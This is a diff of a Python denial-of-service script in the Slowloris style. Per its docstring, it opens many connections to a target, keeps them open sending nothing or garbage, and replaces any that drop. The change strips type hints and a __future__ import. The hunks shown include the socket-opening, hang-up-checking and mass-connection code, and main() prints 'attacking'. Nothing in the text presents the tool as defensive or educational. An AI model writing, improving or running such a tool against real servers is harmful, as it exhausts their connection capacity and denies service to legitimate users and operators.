@@ -4,8 +4,6 @@ Keeps so many connections open that say nothing, or garbage, until it is ended. 
 answer or are cut off are made anew.
 """
 
-from __future__ import annotations
-
 import random
 import socket
 import sys
@@ -15,14 +13,14 @@ from contextlib import suppress
 PATIENCE_S = 0.3
 
 
-def connection(address: str, port: int) -> socket.socket:
+def connection(address, port):
     made = socket.socket()
     made.setblocking(False)
     made.connect_ex((address, port))
     return made
 
 
-def over(made: socket.socket) -> bool:
+def over(made):
     """Whether the other end has hung up, or never answered."""
     with suppress(BlockingIOError):
         try:
@@ -35,7 +33,7 @@ def over(made: socket.socket) -> bool:
     return False
 
 
-def main(address: str, port: int, count: int) -> None:
+def main(address, port, count):
     made = [connection(address, port) for _ in range(count)]
     sys.stdout.write("attacking\n")
     sys.stdout.flush()
